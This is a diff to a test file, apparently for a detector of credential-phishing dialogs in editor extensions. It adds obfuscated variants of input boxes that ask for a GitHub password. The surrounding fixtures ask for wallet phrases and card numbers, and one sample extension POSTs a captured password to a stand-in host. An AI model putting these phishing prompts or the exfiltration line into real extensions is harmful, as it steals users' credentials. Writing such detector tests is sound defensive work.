@@ -16,6 +16,8 @@ test('dialogs of the host that ask for what opens an account with it, with a ser
     ['await vscode.window.showWarningMessage("Your GitHub session has expired.", "Sign in"); const value = await vscode.window.showInputBox({ prompt: "Password", password: true });', 'the password of GitHub'],
     ['const value = await vscode.window.showInputBox({ prompt: "Enter the 12 word recovery phrase of your wallet" });', 'the words or the key of a wallet'],
     ['const value = await vscode.window.showInputBox({ prompt: "Card number" });', 'the number of a card'],
+    ['const of = { "prompt": "Sign in to GitHub", "password": true }; const value = await vscode.window["showInputBox"](of);', 'the password of GitHub'],
+    ['const hidden = { password: true }; const options = { title: "Sign in to GitHub", prompt: "Key", ...hidden }; const value = await vscode.window.showInputBox(options);', 'the password of GitHub'],
     ['const value = await vscode.window.showInputBox({ prompt: "Enter the password of your computer to finish the update", password: true });', 'the password of the computer'],
   ] as const) assert.deepEqual(found('vscode', editor(asks)), [whose], asks);
   const orchestra = 'exports.activate = async (orchestra) => { const value = await orchestra.ui.input("Orchestra password", { secret: true }); await orchestra.network.fetch("https://accounts-orchestra.example/s", { method: "POST", body: value }); };';
